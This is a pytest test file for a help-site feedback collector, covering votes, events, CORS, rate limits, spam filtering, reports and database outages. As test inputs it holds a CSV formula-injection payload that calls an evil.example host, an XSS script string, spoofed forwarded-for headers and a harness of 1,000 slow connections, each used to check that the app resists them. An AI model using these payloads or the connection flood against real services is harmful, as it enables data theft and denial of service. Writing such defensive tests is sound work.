"""The feedback collector: the real FastAPI app (TestClient, no mocks) and the real `deflect serve`
(uvicorn on a free loopback port, raw sockets) on SQLite and, when DEFLECT_TEST_POSTGRES_URL is set,
PostgreSQL (a fresh schema per test, see ``db_url`` in conftest.py); `deflect feedback`.
The schemathesis fuzz test is in test_collector_fuzz.py."""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from deflect.cli import main
from deflect.collector.app import create_app

from deflect.collector.store import DatabaseURLError, Store, Vote, sqlite_path

PG_URL = os.environ.get("DEFLECT_TEST_POSTGRES_URL")
SITE = "https://help.example.com"


@pytest.fixture
def store(db_url):
    s = Store(db_url)
    yield s
    s.close()


def client_for(store: Store, **kwargs) -> TestClient:
    kwargs.setdefault("rate", 0)
    return TestClient(create_app(store.url, [SITE], store=store, **kwargs))


@pytest.fixture
def client(store):
    return client_for(store)


def vote(**kw):
    body = {"article": "en/account/reset-password/", "lang": "en", "helpful": True, "voter": "reader-0001"}
    body.update(kw)
    return body


# ---------------------------------------------------------------------------- votes

def test_vote_insert_and_change(client, store):
    r = client.post("/api/votes", json=vote(), headers={"Origin": SITE})
    assert r.status_code == 201, r.text
    assert r.headers["access-control-allow-origin"] == SITE
    first = r.json()["id"]
    r = client.post("/api/votes", json=vote(helpful=False, reason="outdated", comment="Step 3 changed."))
    assert r.status_code == 201 and r.json()["id"] == first
    rows = store.votes()
    assert len(rows) == 1
    assert rows[0]["helpful"] is False and rows[0]["reason"] == "outdated" and rows[0]["comment"] == "Step 3 changed."
    assert rows[0]["updated"] >= rows[0]["created"]
    # another reader, and the same reader on a FAQ answer, are separate votes
    assert client.post("/api/votes", json=vote(voter="reader-0002")).status_code == 201
    assert client.post("/api/votes", json=vote(article="en/faq/#faq-refund")).status_code == 201
    assert store.count("votes") == 3


def test_helpful_count_is_a_cached_get_in_the_openapi_document(client, store):
    article = "en/account/reset-password/"
    for number, helpful in enumerate((True, True, False)):
        assert client.post("/api/votes", json=vote(voter=f"reader-000{number}", helpful=helpful)).status_code == 201
    r = client.get("/api/helpful", params={"article": article}, headers={"Origin": SITE})
    assert r.status_code == 200, r.text
    assert r.json() == {"article": article, "votes": 3, "helpful": 2}
    assert r.headers["access-control-allow-origin"] == SITE
    assert r.headers["cache-control"] == "public, max-age=60"
    # Counted once a minute: a new vote shows in the next minute, not on the next page load.
    assert client.post("/api/votes", json=vote(voter="reader-0009")).status_code == 201
    assert client.get("/api/helpful", params={"article": article}).json()["votes"] == 3
    assert client.get("/api/helpful", params={"article": "en/other/"}).json() == {
        "article": "en/other/", "votes": 0, "helpful": 0}
    assert client.get("/api/helpful", headers={"Origin": SITE}).status_code == 422
    assert client.get("/api/helpful", params={"article": article}, headers={"Origin": "https://evil.example"}).status_code == 403
    spec = client.get("/openapi.json").json()
    assert set(spec["paths"]["/api/helpful"]) == {"get"}
    assert spec["paths"]["/api/helpful"]["get"]["parameters"][0]["name"] == "article"


def test_group_commit_acknowledges_each_vote(store):
    import asyncio
    import concurrent.futures

    from deflect.collector.store import Vote

    async def burst():
        committer = store.committer()
        futures = [committer.submit(Vote(article=f"en/a{i % 3}/", voter=f"reader-{i:04}", helpful=i % 2 == 0))
                   for i in range(60)]
        return await asyncio.gather(*futures)

    # Its own thread: a session-wide Playwright browser keeps an event loop running in this one.
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        ids = pool.submit(asyncio.run, burst()).result(timeout=60)
    assert len(set(ids)) == 60 and store.count("votes") == 60
    assert {v["id"] for v in store.votes()} == set(ids)


def test_beacon_text_plain_body(client, store):
    r = client.post("/api/votes", content=json.dumps(vote()).encode(), headers={"Content-Type": "text/plain"})
    assert r.status_code == 201
    assert store.count("votes") == 1


@pytest.mark.parametrize("body", [
    {"article": "en/a/", "helpful": "yes", "voter": "reader-0001"},          # not a bool
    {"article": "en/a/", "voter": "reader-0001"},                             # missing helpful
    {"article": "", "helpful": True, "voter": "reader-0001"},                 # empty article
    {"article": "en/<script>/", "helpful": True, "voter": "reader-0001"},     # bad path
    {"article": "en/a/", "helpful": False, "reason": "boring", "voter": "reader-0001"},
    {"article": "en/a/", "helpful": True, "voter": "x" * 65},                 # voter too long
    {"article": "en/a/", "helpful": True, "voter": "reader 0001"},            # voter charset
    {"article": "en/a/", "helpful": False, "comment": "x" * 2001, "voter": "reader-0001"},
    {"article": "en/a/", "helpful": False, "comment": "nul\u0000byte", "voter": "reader-0001"},
    {"article": "en/a/", "helpful": True, "lang": "english!", "voter": "reader-0001"},
    ["not", "an", "object"],
])
def test_validation_422(client, store, body):
    r = client.post("/api/votes", json=body)
    assert r.status_code == 422, r.text
    assert store.count("votes") == 0


def test_malformed_json_and_lone_surrogate(client, store):
    assert client.post("/api/votes", content=b"{not json", headers={"Content-Type": "application/json"}).status_code == 422
    surrogate = b'{"article": "en/a/", "helpful": false, "comment": "\\ud800", "voter": "reader-0001"}'
    assert client.post("/api/votes", content=surrogate, headers={"Content-Type": "application/json"}).status_code == 422
    deep = b"[" * 5000 + b"]" * 5000
    assert client.post("/api/events", content=deep, headers={"Content-Type": "application/json"}).status_code in (413, 422)
    assert store.count("votes") == 0 and store.count("events") == 0


def test_oversize_413(client, store):
    body = vote(helpful=False, comment="a" * 1990, website=None, padding="x" * 9000)
    r = client.post("/api/votes", json=body)
    assert r.status_code == 413
    # a chunked body without Content-Length is refused too
    r = client.post("/api/votes", content=iter([json.dumps(body).encode()]), headers={"Content-Type": "application/json"})
    assert r.status_code == 413
    assert store.count("votes") == 0


def test_wrong_origin_403_stores_nothing(client, store):
    evil = {"Origin": "https://evil.example.net"}
    assert client.post("/api/votes", json=vote(), headers=evil).status_code == 403
    assert client.post("/api/events", json={"type": "pageview", "page": "/en/a/"}, headers=evil).status_code == 403
    pre = client.options("/api/votes", headers={**evil, "Access-Control-Request-Method": "POST"})
    assert pre.status_code == 403 and "access-control-allow-origin" not in pre.headers
    assert store.count("votes") == 0 and store.count("events") == 0
    ok = client.options("/api/votes", headers={"Origin": SITE, "Access-Control-Request-Method": "POST",
                                                "Access-Control-Request-Headers": "content-type"})
    assert ok.status_code == 204
    assert ok.headers["access-control-allow-origin"] == SITE
    assert "content-type" in ok.headers["access-control-allow-headers"]


def test_flood_429(store):
    client = client_for(store, rate=1, burst=5)
    codes = [client.post("/api/votes", json=vote(voter=f"reader-{i:04}")).status_code for i in range(20)]
    assert codes[:5] == [201] * 5
    assert codes.count(429) >= 14
    assert store.count("votes") == codes.count(201)


def test_flood_429_on_the_helpful_counts_too(store):
    """The one GET under /api/ (public vote counts) spends the same token bucket as the POSTs."""
    client = client_for(store, rate=1, burst=3)
    replies = [client.get("/api/helpful", params={"article": "en/a/"}, headers={"Origin": SITE}) for _ in range(8)]
    assert [r.status_code for r in replies[:3]] == [200] * 3
    limited = [r for r in replies if r.status_code == 429]
    assert len(limited) >= 4 and all(r.headers["retry-after"] == "1" for r in limited)
    assert all(r.headers["access-control-allow-origin"] == SITE for r in limited)
    assert client.post("/api/votes", json=vote()).status_code == 429  # the same bucket


def test_spam(client, store):
    # honeypot filled → stored flagged, never reported
    r = client.post("/api/votes", json=vote(voter="bot-00001", helpful=False, comment="Nice", website="http://x.io"))
    assert r.status_code == 201
    # two links → flagged
    r = client.post("/api/votes", json=vote(voter="bot-00002", helpful=False,
                                            comment="see https://a.example and https://b.example"))
    assert r.status_code == 201
    # repeated characters → flagged
    assert client.post("/api/votes", json=vote(voter="bot-00003", helpful=False,
                                               comment="noooooooooooooooooo")).status_code == 201
    # obvious spam → rejected, nothing stored
    r = client.post("/api/votes", json=vote(voter="bot-00004", helpful=False,
                                            comment="cheap viagra casino payday loan http://spam.ru"))
    assert r.status_code == 422
    # a clean comment
    assert client.post("/api/votes", json=vote(voter="reader-0009", helpful=False, reason="unclear",
                                               comment="Which menu is 'Settings'?")).status_code == 201
    flags = {v["voter"]: v["flagged"] for v in store.votes()}
    assert flags == {"bot-00001": "honeypot", "bot-00002": "links", "bot-00003": "repeated", "reader-0009": None}
    report = store.report()
    (article,) = report["articles"]
    assert article["votes"] == 1
    assert [c["comment"] for c in article["comments"]] == ["Which menu is 'Settings'?"]


# --------------------------------------------------------------------------- events

def test_events_of_each_type(client, store):
    search = {"type": "search", "query": "reset password", "lang": "en", "results": 3,
              "clicked": "en/account/reset-password/", "page": "/en/"}
    zero = {"type": "search", "query": "refund crypto", "lang": "en", "results": 0, "clicked": None, "page": "/en/"}
    deflected = {"type": "contact", "action": "deflected", "article": "en/account/reset-password/",
                 "query": "cant log in", "lang": "en", "page": "/en/contact/"}
    contacted = {"type": "contact", "action": "contacted", "channel": "email",
                 "suggested": ["en/account/reset-password/"], "opened": [], "query": "cant log in", "lang": "en",
                 "page": "/en/contact/"}
    view = {"type": "pageview", "page": "/en/account/reset-password/", "lang": "en"}
    for body in (search, zero, deflected, contacted, view):
        r = client.post("/api/events", json=body, headers={"Origin": SITE})
        assert r.status_code == 202, r.text
    r = client.post("/api/events", content=json.dumps(view), headers={"Content-Type": "text/plain;charset=UTF-8"})
    assert r.status_code == 202
    assert client.post("/api/events", json={"type": "contact", "action": "phoned"}).status_code == 422
    assert client.post("/api/events", json={"type": "search", "query": "x", "results": -1}).status_code == 422
    assert client.post("/api/events", json={"type": "nope"}).status_code == 422
    events = store.events()
    assert [e["type"] for e in events] == ["search", "search", "contact", "contact", "pageview", "pageview"]
    assert events[0]["query"] == "reset password" and events[0]["results"] == 3
    assert events[2]["action"] == "deflected" and events[2]["article"] == "en/account/reset-password/"
    assert events[3]["channel"] == "email" and json.loads(events[3]["data"])["suggested"] == ["en/account/reset-password/"]
    report = store.report()
    (article,) = report["articles"]
    assert article["article"] == "en/account/reset-password/"
    assert article["views"] == 2 and article["deflections"] == 1
    assert report["searches"]["zero_results"] == [{"query": "refund crypto", "count": 1}]
    assert {s["query"] for s in report["searches"]["top"]} == {"reset password", "refund crypto"}
    assert report["contact"] == {"deflected": 1, "contacted": 1}


def test_healthz_and_openapi(client):
    assert client.get("/healthz").json()["ok"] is True
    spec = client.get("/openapi.json").json()
    assert {"/api/votes", "/api/events"} <= set(spec["paths"])


def test_migrations_idempotent(db_url):
    first = Store(db_url)
    version = first.schema_version()
    assert version >= 2
    first.close()
    second = Store(db_url)
    assert second.migrate() == version and second.schema_version() == version
    assert second.count("votes") == 0
    second.close()


# ------------------------------------------------------------------------- reports

def _seed(client):
    for i in range(3):
        client.post("/api/votes", json=vote(voter=f"reader-{i:04}"))
    client.post("/api/votes", json=vote(voter="reader-0009", helpful=False, reason="unclear",
                                        comment="<script>alert('x')</script> step 2?"))
    client.post("/api/votes", json=vote(article="en/orders/track/", voter="reader-0001", helpful=False,
                                        reason="outdated"))
    client.post("/api/events", json={"type": "pageview", "page": "/en/orders/track/", "lang": "en"})


def test_feedback_json(client, db_url):
    _seed(client)
    result = CliRunner().invoke(main, ["feedback", "--db", db_url, "--json"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    assert set(data) >= {"articles", "searches"} and set(data["searches"]) == {"top", "zero_results"}
    by = {a["article"]: a for a in data["articles"]}
    reset = by["en/account/reset-password/"]
    assert (reset["votes"], reset["helpful"], reset["helpful_pct"]) == (4, 3, 75.0)
    assert reset["reasons"] == {"unclear": 1}
    assert reset["comments"][0]["comment"] == "<script>alert('x')</script> step 2?"
    track = by["en/orders/track/"]
    assert (track["votes"], track["helpful_pct"], track["views"], track["reasons"]) == (1, 0.0, 1, {"outdated": 1})
    csv_out = CliRunner().invoke(main, ["feedback", "--db", db_url, "--csv"]).output
    assert csv_out.splitlines()[0].startswith("article,views,votes,helpful,helpful_pct")


def test_feedback_html_escapes_comments(client, db_url, tmp_path):
    _seed(client)
    out = tmp_path / "report.html"
    result = CliRunner().invoke(main, ["feedback", "--db", db_url, "--html", str(out)])
    assert result.exit_code == 0, result.output
    page = out.read_text(encoding="utf-8")
    assert "<script>" not in page and "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "<svg" in page and "<rect" in page and "src=" not in page  # inline chart, no external files


def test_feedback_views_find_articles_under_a_base_path(db_url):
    """A view counts for the article at that path, its FAQ anchors and the same path under a base
    path; a page nobody voted on collects its own views, also those under a base path."""
    store = Store(db_url)
    store.add_vote(Vote(article="en/a/", voter="r1", helpful=True))
    store.add_vote(Vote(article="en/faq/#q1", voter="r2", helpful=False, reason="unclear"))
    for page in ("/en/a/", "/help/en/a/", "https://example.com/help/en/a/?x=1", "/en/faq/", "/help/en/faq/",
                 "/en/b/", "/help/en/b/", "/help/en/b/", "/en/ab/"):
        store.add_event("pageview", page=page)
    views = {a["article"]: a["views"] for a in store.report()["articles"]}
    store.close()
    assert views == {"en/a/": 3, "en/faq/#q1": 2, "en/b/": 3, "en/ab/": 1}


def _insert_vote(store, voter, day, helpful=True, article="en/a/"):
    stamp = f"{day}T12:00:00.000000Z"
    store._execute("INSERT INTO votes (article, lang, voter, helpful, reason, comment, flagged, created, updated) "
                   "VALUES (?, 'en', ?, ?, NULL, NULL, NULL, ?, ?)", (article, voter, 1 if helpful else 0, stamp, stamp))


def _insert_search(store, day, query="reset"):
    store._execute("INSERT INTO events (type, query, results, created) VALUES ('search', ?, 1, ?)",
                   (query, f"{day}T08:00:00.000000Z"))


def _svg(page, series):
    import re

    match = re.search(r'<svg[^>]*data-series="%s".*?</svg>' % series, page, re.S)
    assert match, f"no {series} trend chart"
    return match.group(0)


def test_trends_daily(store, db_url, tmp_path):
    # 2026-03-02 .. 2026-03-05: four days (one without votes) → daily points
    for i, (day, helpful) in enumerate([("2026-03-02", True), ("2026-03-02", False), ("2026-03-03", True),
                                        ("2026-03-05", False)]):
        _insert_vote(store, f"reader-{i:04}", day, helpful)
    for day in ("2026-03-01", "2026-03-01", "2026-03-03"):
        _insert_search(store, day)
    trends = store.report()["trends"]
    assert trends["period"] == "day"
    assert [(p["period"], p["votes"], p["helpful_pct"]) for p in trends["votes"]] == [
        ("2026-03-02", 2, 50.0), ("2026-03-03", 1, 100.0), ("2026-03-04", 0, None), ("2026-03-05", 1, 0.0)]
    assert [(p["day"], p["searches"]) for p in trends["searches"]] == [
        ("2026-03-01", 2), ("2026-03-02", 0), ("2026-03-03", 1)]
    out = tmp_path / "report.html"
    assert CliRunner().invoke(main, ["feedback", "--db", db_url, "--html", str(out)]).exit_code == 0
    page = out.read_text(encoding="utf-8")
    assert "Votes per day" in page and "<script" not in page
    assert _svg(page, "votes").count("<circle") == 4          # one point per day
    assert _svg(page, "helpful_pct").count("<circle") == 3    # no helpful % for the day without votes
    assert _svg(page, "searches").count("<circle") == 3
    assert "<polyline" in _svg(page, "votes")


def test_trends_weekly(store, db_url, tmp_path):
    # five ISO weeks (Mondays 2026-02-02 .. 2026-03-02), nothing in the week of 2026-02-16 → weekly points
    days = ["2026-02-02", "2026-02-08", "2026-02-10", "2026-02-24", "2026-03-01", "2026-03-04"]
    for i, day in enumerate(days):
        _insert_vote(store, f"reader-{i:04}", day, helpful=i % 2 == 0)
    _insert_vote(store, "bot-000001", "2026-02-17")
    store._execute("UPDATE votes SET flagged = 'links' WHERE voter = 'bot-000001'")  # flagged: not counted
    trends = store.report()["trends"]
    assert trends["period"] == "week"
    assert [(p["period"], p["votes"]) for p in trends["votes"]] == [
        ("2026-02-02", 2), ("2026-02-09", 1), ("2026-02-16", 0), ("2026-02-23", 2), ("2026-03-02", 1)]
    out = tmp_path / "report.html"
    assert CliRunner().invoke(main, ["feedback", "--db", db_url, "--html", str(out)]).exit_code == 0
    page = out.read_text(encoding="utf-8")
    assert "Votes per week" in page
    assert _svg(page, "votes").count("<circle") == 5
    assert "No data yet." in page  # no searches


def test_feedback_missing_db(tmp_path):
    result = CliRunner().invoke(main, ["feedback", "--db", f"sqlite:///{tmp_path / 'none.db'}"])
    assert result.exit_code != 0 and "no feedback database" in result.output


# ------------------------------------------------------------------ the real server
# `deflect serve` in a child process on a free loopback port, spoken to over real sockets.


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _http(port: int, method: str, path: str, body: bytes | dict | None = None, headers: dict | None = None,
          timeout: float = 10) -> tuple[int, dict[str, str], bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        data = json.dumps(body).encode() if isinstance(body, dict) else body
        conn.request(method, path, body=data, headers={"Content-Type": "application/json", **(headers or {})})
        response = conn.getresponse()
        return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
    finally:
        conn.close()


@contextmanager
def running_server(db_url: str, *options: str, open_files: int | None = None) -> Iterator[int]:
    """``deflect serve --db DB_URL OPTIONS`` on a free port; yields the port once /healthz answers.
    ``open_files``: the server's hard limit on open files (as ``ulimit -n`` sets it)."""
    import resource

    port = _free_port()
    log = tempfile.TemporaryFile()  # not a pipe: a server that logs a lot must never block on it
    limit = (lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (open_files, open_files))) if open_files else None
    proc = subprocess.Popen([sys.executable, "-m", "deflect.cli", "serve", "--db", db_url, "--port", str(port),
                             *options], env=dict(os.environ, NO_MKDOCS_2_WARNING="1"), stderr=log,
                            preexec_fn=limit)
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                if _http(port, "GET", "/healthz", timeout=1)[0] == 200:
                    break
            except OSError:
                pass
            if proc.poll() is not None or time.monotonic() > deadline:
                log.seek(0)
                raise AssertionError(f"deflect serve did not start: {log.read().decode()[-2000:]}")
            time.sleep(0.1)
        yield port
    finally:
        proc.terminate()
        try:
            proc.wait(10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        log.close()


def test_spoofed_forwarded_for_does_not_bypass_the_rate_limit(db_url):
    with running_server(db_url, "--rate-limit", "0.5", "--burst", "5") as port:
        codes = [_http(port, "POST", "/api/votes", vote(voter=f"reader-{i:04}"),
                       {"X-Forwarded-For": f"198.51.100.{i}"})[0] for i in range(40)]
    assert codes[:5] == [201] * 5
    assert codes.count(201) <= 7 and codes.count(429) >= 33, codes


def test_trusted_proxy_gives_each_client_its_bucket(db_url):
    with running_server(db_url, "--rate-limit", "0.5", "--burst", "5", "--forwarded-allow-ips",
                        "10.0.0.0/8,127.0.0.1") as port:
        # Six clients behind the proxy, five votes each: every client stays within its own burst.
        codes = [_http(port, "POST", "/api/votes", vote(voter=f"reader-{c}-{i:04}"),
                       {"X-Forwarded-For": f"203.0.113.{c}, 10.1.2.3"})[0] for c in range(6) for i in range(5)]
        assert codes == [201] * 30
        # A client that makes up addresses on the left of the chain still gets its own (right-most
        # untrusted) address's bucket, already used up by client 0.
        spoofed = [_http(port, "POST", "/api/votes", vote(voter=f"spoofer-{i:04}"),
                         {"X-Forwarded-For": f"192.0.2.{i}, 203.0.113.0"})[0] for i in range(10)]
        assert spoofed.count(429) >= 8, spoofed


def _open_idle(port: int, kind: str) -> socket.socket:
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    if kind == "headers":  # a request whose headers never end
        s.sendall(b"POST /api/votes HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nX-Slow: ")
    elif kind == "body":  # complete headers, a body that never ends
        s.sendall(b"POST /api/votes HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                  b"Content-Length: 400\r\n\r\n{\"article\": ")
    return s


def _closed_by_server(s: socket.socket) -> bool:
    s.settimeout(0)
    try:
        while True:
            data = s.recv(4096)
            if not data:
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


@pytest.mark.slow
def test_votes_are_accepted_while_1000_slow_clients_hold_connections(db_url):
    """1,000 connections that never finish their headers or body, against a server allowed 1,000 open
    files (a common default): without timeouts and a cap they use up its file descriptors and no vote
    gets in; with them, votes are answered at once and every slow connection is closed within the timeouts."""
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < 1500:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(4096, hard), hard))
    idle: list[socket.socket] = []
    with running_server(db_url, "--rate-limit", "0", "--header-timeout", "3", "--body-timeout", "3",
                        open_files=1000) as port:
        try:
            opened = time.monotonic()
            for i in range(1000):
                idle.append(_open_idle(port, ("connect", "headers", "body")[i % 3]))
            latencies = []
            for i in range(30):
                t0 = time.monotonic()
                status, _, _ = _http(port, "POST", "/api/votes", vote(voter=f"reader-{i:04}"), timeout=10)
                latencies.append(time.monotonic() - t0)
                assert status == 201
            assert max(latencies) < 2.0, latencies
            # The slow clients' connections are all closed by the server within the timeouts (or evicted
            # by the votes over the connection cap), none left hanging.
            time.sleep(max(0.0, opened + 3 + 1.5 - time.monotonic()))
            deadline = time.monotonic() + 5
            while (still := sum(not _closed_by_server(s) for s in idle)) and time.monotonic() < deadline:
                time.sleep(0.5)
            assert still == 0, f"{still} slow connections still open"
            assert _http(port, "POST", "/api/votes", vote(voter="reader-last"))[0] == 201
        finally:
            for s in idle:
                s.close()
    store = Store(db_url)
    try:
        assert store.count("votes") == 31
    finally:
        store.close()


def test_slow_and_oversized_requests_are_cut(db_url):
    with running_server(db_url, "--rate-limit", "0", "--header-timeout", "1", "--max-connections", "40") as port:
        # Headers that never end: 431 once they pass the header size cap.
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"X-Pad: " + b"a" * 40_000)
            assert s.recv(4096).startswith(b"HTTP/1.1 431")
        # Headers that trickle: 408 and closed after the header timeout.
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            t0 = time.monotonic()
            assert s.recv(4096).startswith(b"HTTP/1.1 408") and s.recv(4096) == b""
            assert 0.9 < time.monotonic() - t0 < 4
        # The cap full of unfinished bodies: a vote still gets in, in place of the slowest of them.
        stuck = [_open_idle(port, "body") for _ in range(40)]
        try:
            time.sleep(1.5)
            assert _http(port, "POST", "/api/votes", vote())[0] == 201
            assert sum(_closed_by_server(s) for s in stuck) >= 1
        finally:
            for s in stuck:
                s.close()


@pytest.mark.parametrize("connection", ["keep-alive", "close"])
def test_413_reaches_a_client_sending_a_big_body(db_url, connection):
    body = b"x" * (8 * 1024 * 1024)
    with running_server(db_url, "--rate-limit", "0") as port:
        for _ in range(3):
            with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
                s.sendall(b"POST /api/votes HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                          b"Connection: %s\r\nContent-Length: %d\r\n\r\n" % (connection.encode(), len(body)))
                s.sendall(body)  # a reset would raise here or in recv
                head = s.recv(4096)
            assert head.startswith(b"HTTP/1.1 413"), head
        assert _http(port, "POST", "/api/votes", vote())[0] == 201  # and the server carries on


class TcpProxy:
    """A TCP forwarder in front of PostgreSQL that a test can cut (every connection closed, nothing listening)
    and restore on the same port: the database becomes unreachable for real, as after a network failure."""

    def __init__(self, target: tuple[str, int]):
        self.target, self.port = target, _free_port()
        self._sockets: list[socket.socket] = []
        self._listener: socket.socket | None = None

    def start(self) -> None:
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("127.0.0.1", self.port))
        listener.listen(64)
        self._listener = listener
        threading.Thread(target=self._accept, args=(listener,), daemon=True).start()

    def _accept(self, listener: socket.socket) -> None:
        while True:
            try:
                client, _ = listener.accept()
            except OSError:
                return
            server = socket.create_connection(self.target)
            self._sockets += [client, server]
            for a, b in ((client, server), (server, client)):
                threading.Thread(target=self._pump, args=(a, b), daemon=True).start()

    @staticmethod
    def _pump(a: socket.socket, b: socket.socket) -> None:
        try:
            while data := a.recv(65536):
                b.sendall(data)
        except OSError:
            pass
        for s in (a, b):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def cut(self) -> None:
        if self._listener is not None:
            try:
                self._listener.shutdown(socket.SHUT_RDWR)  # wakes the blocked accept() (close alone does not)
            except OSError:
                pass
            self._listener.close()
            self._listener = None
        for s in self._sockets:
            try:
                s.shutdown(socket.SHUT_RDWR)
                s.close()
            except OSError:
                pass
        self._sockets.clear()


def _assert_503(port: int) -> None:
    for path, body in (("/api/votes", vote(voter="reader-down")), ("/api/events", {"type": "pageview", "page": "/en/"})):
        status, headers, payload = _http(port, "POST", path, body)
        assert status == 503, (path, status, payload)
        assert int(headers["retry-after"]) > 0
    assert _http(port, "GET", "/healthz")[0] == 503


def test_database_down_gives_503_with_retry_after(db_url, tmp_path):
    if db_url.startswith("sqlite"):
        with running_server(db_url, "--rate-limit", "0") as port:
            assert _http(port, "POST", "/api/votes", vote())[0] == 201
            path = sqlite_path(db_url)
            for suffix in ("", "-wal", "-shm"):  # corrupt the file the server has open, in place
                if os.path.exists(path + suffix):
                    with open(path + suffix, "r+b") as f:
                        f.write(b"\x5a" * os.path.getsize(path + suffix))
            _assert_503(port)
        return
    from urllib.parse import urlsplit

    import psycopg

    parts = urlsplit(db_url)
    proxy = TcpProxy((parts.hostname or "127.0.0.1", parts.port or 5432))
    proxy.start()
    app_name = "deflect-test-" + uuid.uuid4().hex[:10]
    url = parts._replace(netloc=f"{parts.username}:{parts.password}@127.0.0.1:{proxy.port}").geturl()
    url += f"&application_name={app_name}"
    try:
        with running_server(url, "--rate-limit", "0") as port:
            assert _http(port, "POST", "/api/votes", vote())[0] == 201
            # The server ends the collector's sessions: the next request reconnects once and succeeds.
            with psycopg.connect(PG_URL, autocommit=True) as admin:
                killed = admin.execute("SELECT COUNT(pg_terminate_backend(pid)) FROM pg_stat_activity "
                                       "WHERE application_name = %s", (app_name,)).fetchone()[0]
            assert killed >= 1
            assert _http(port, "POST", "/api/votes", vote(voter="reader-0002"))[0] == 201
            # PostgreSQL becomes unreachable: 503 with Retry-After, never a 500 or a reset.
            proxy.cut()
            _assert_503(port)
            # Back again: requests succeed once Retry-After has passed.
            proxy.start()
            deadline = time.monotonic() + 15
            while _http(port, "POST", "/api/votes", vote(voter="reader-0003"))[0] != 201:
                assert time.monotonic() < deadline, "the collector did not recover"
                time.sleep(0.5)
    finally:
        proxy.cut()


def test_feedback_csv_neutralises_formulas(client, store, db_url):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click for help")'
    client.post("/api/votes", json=vote(helpful=False, reason="unclear", comment=formula))
    client.post("/api/votes", json=vote(article="@SUM(1)/", voter="reader-0002", helpful=False, comment="-2+3"))
    result = CliRunner().invoke(main, ["feedback", "--db", db_url, "--csv"])
    assert result.exit_code == 0, result.output
    rows = {r["article"]: r for r in csv.DictReader(io.StringIO(result.output))}
    assert rows["en/account/reset-password/"]["latest_comment"] == "'" + formula
    assert rows["'@SUM(1)/"]["latest_comment"] == "'-2+3"
    assert rows["en/account/reset-password/"]["votes"] == "1"  # numbers stay numbers


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_spreadsheet_cell_guard(start):
    from deflect.spreadsheet import spreadsheet_cell, to_csv

    assert spreadsheet_cell(start + "1+1") == "'" + start + "1+1"
    assert spreadsheet_cell(-3.5) == -3.5 and spreadsheet_cell("a=b") == "a=b" and spreadsheet_cell(None) == ""
    assert next(csv.reader(io.StringIO(to_csv(["h"], [[start + "cmd"]])).readlines()[1:]))[0] == "'" + start + "cmd"


def test_every_report_csv_goes_through_the_one_guard():
    """Report CSV is written only by deflect.spreadsheet; the other csv.writer calls stage data for DuckDB."""
    root = Path(__file__).resolve().parents[1] / "plugins" / "deflect"
    writers = [(path.relative_to(root).as_posix(), line) for path in root.rglob("*.py")
               for line in path.read_text(encoding="utf-8").splitlines() if "csv.writer(" in line]
    assert ("spreadsheet.py", "    writer = csv.writer(out)") in writers
    others = [(p, line) for p, line in writers if p != "spreadsheet.py"]
    assert others and all("staging for DuckDB" in line for _, line in others), others
    from deflect.insights import report as insights_report

    assert insights_report.to_csv is __import__("deflect.spreadsheet", fromlist=["to_csv"]).to_csv


BAD_URLS = {
    "mysql://user:pw@localhost/feedback": "unsupported database URL scheme 'mysql://'",
    "postgresql+psycopg://user@localhost/feedback": "unsupported database URL scheme 'postgresql+psycopg://'",
    "feedback": "is not a database URL",
    "sqlite:///feedback.db?synchronous=bogus": "synchronous='bogus'",
    "sqlite:///feedback.db?journal=wal": "unknown option 'journal'",
    "postgresql://user@localhost/feedback?bogus=1": "bad PostgreSQL URL",
}


def _one_line_error(result_output: str, exit_code: int, expected: str) -> None:
    assert exit_code != 0, result_output
    lines = [line for line in result_output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("Error: ") and expected in lines[0], result_output
    assert "Traceback" not in result_output


@pytest.mark.parametrize("url", list(BAD_URLS))
@pytest.mark.parametrize("command", ["serve", "feedback"])
def test_bad_database_url_is_a_clear_error_and_creates_nothing(url, command, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, [command, "--db", url])
    _one_line_error(result.output, result.exit_code, BAD_URLS[url])
    if "scheme" in BAD_URLS[url] or "not a database URL" in BAD_URLS[url]:
        assert "sqlite:///" in result.output and "postgresql://" in result.output
    assert list(tmp_path.iterdir()) == []  # no stray SQLite file
    with pytest.raises(DatabaseURLError):
        Store(url)


def _unusable_databases(tmp_path: Path) -> dict[str, tuple[str, str]]:
    corrupt = tmp_path / "corrupt.db"
    corrupt.write_bytes(b"this is not a SQLite database, just bytes " * 100)
    return {
        "corrupt": (f"sqlite:///{corrupt}", "file is not a database"),
        "refused": (f"postgresql://deflect:secret@127.0.0.1:{_free_port()}/deflect", "Connection refused"),
